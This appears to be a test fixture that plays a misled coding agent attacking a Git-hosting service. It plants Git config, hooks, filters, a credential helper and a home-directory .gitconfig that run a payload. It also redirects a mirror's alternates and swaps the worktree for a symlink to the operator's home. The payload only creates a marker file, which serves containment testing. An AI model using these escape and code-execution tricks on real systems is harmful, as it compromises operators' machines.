// An agent that was led astray: the prompt names its attack. It is run with `node --eval`, so it imports only Node's modules.
// HOSTILE_MARKER is a file that no attack may create, OPERATOR_HOME the home directory of the service's user.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import { dirname, join } from "node:path";

const attack = fs.readFileSync(0, "utf8");
const { HOSTILE_MARKER: marker = "", OPERATOR_HOME: operatorHome = "" } = process.env;
const tree = process.cwd();
const payload = `touch '${marker}'`;
const run = `${payload}; cat`;

/** Every setting by which Git runs a program. */
const settings = (folder: string): string => `[core]
  hooksPath = ${folder}/hooks
  fsmonitor = ${payload}; false
  sshCommand = ${payload}; false
  attributesFile = ${folder}/info/attributes
  alternateRefsCommand = ${payload}; false
[filter "x"]
  clean = ${run}
  smudge = ${run}
  required = true
[diff "x"]
  textconv = ${run}
  command = ${payload}
[merge "x"]
  driver = ${payload}; false
[credential]
  helper = "!${payload}"
[uploadpack]
  packObjectsHook = ${payload}; false
`;
const attributes = "* filter=x diff=x merge=x\n";
const hooks = [
  "post-checkout",
  "pre-push",
  "reference-transaction",
  "pre-auto-gc",
  "post-index-change",
  "fsmonitor-watchman",
];

/** Writes a file if that is possible. */
function write(file: string, content: string, mode = 0o644): void {
  try {
    fs.mkdirSync(dirname(file), { recursive: true });
    fs.writeFileSync(file, content, { mode });
    fs.chmodSync(file, mode);
  } catch (error) {
    console.log(`cannot write ${file}: ${error}`);
  }
}

function plantIn(repository: string): void {
  const extensions = `[extensions]\n  worktreeConfig = true\n[include]\n  path = ${repository}/included\n`;
  write(join(repository, "config"), `[core]\n  bare = true\n${settings(repository)}\n${extensions}`);
  for (const file of ["config.worktree", "included"]) write(join(repository, file), settings(repository));
  write(join(repository, "info/attributes"), attributes);
  for (const hook of hooks) write(join(repository, "hooks", hook), `#!/bin/sh\n${payload}\n`, 0o755);
}

/** The bare clone of the service, which the worktree names as its source of objects. */
function mirror(): string {
  return dirname(fs.readFileSync(".git/objects/info/alternates", "utf8").trim());
}

/** Makes commits reproducible. */
const person = Object.fromEntries(
  ["AUTHOR", "COMMITTER"].flatMap((role) => [
    [`GIT_${role}_NAME`, "Someone"],
    [`GIT_${role}_EMAIL`, "someone@example.com"],
    [`GIT_${role}_DATE`, "2026-01-01T00:00:00Z"],
  ]),
);

const attacks: Record<string, () => void> = {
  "plant Git configuration": () => {
    plantIn(mirror());
    plantIn(join(tree, ".git"));
    write(join(operatorHome, ".gitconfig"), settings(join(tree, ".git")));
    write(join(operatorHome, ".config/git/config"), settings(join(tree, ".git")));
    write(join(operatorHome, ".config/git/attributes"), attributes);
    write(".gitattributes", attributes);
    fs.appendFileSync("README.md", "planted\n");
  },
  "redirect the mirror": () => {
    write(join(mirror(), "commondir"), `${tree}/.git\n`);
    write(join(mirror(), ".git"), `gitdir: ${tree}/.git\n`);
    write(join(mirror(), "objects/info/alternates"), `${tree}/.git/objects\n`);
    fs.appendFileSync("README.md", "redirected\n");
  },
  "change a file": () => {
    write(".gitattributes", attributes);
    fs.appendFileSync("README.md", "changed\n");
  },
  "plant a filter in a submodule": () => {
    const git = (...args: string[]) => execFileSync("git", ["-C", "module", ...args]);
    git("init", "--quiet");
    // The commit that the repository names, as the test made it.
    write("module/page.md", "one\n");
    git("add", "page.md");
    execFileSync("git", ["-C", "module", "commit", "--quiet", "--message=Begin"], {
      env: { ...process.env, ...person },
    });
    fs.appendFileSync("module/.git/config", settings(join(tree, "module/.git")));
    write("module/.git/info/attributes", attributes);
    // Of the same size, so that Git has to read it.
    write("module/page.md", "two\n");
    fs.utimesSync("module/page.md", 1, 1);
    fs.appendFileSync("README.md", "changed\n");
  },
  "replace the worktree by a link": () => {
    fs.renameSync(tree, `${tree}-moved`);
    fs.symlinkSync(operatorHome, tree);
  },
};

const start = attacks[attack];
if (start === undefined) throw new Error(`no such attack: ${attack}`);
start();
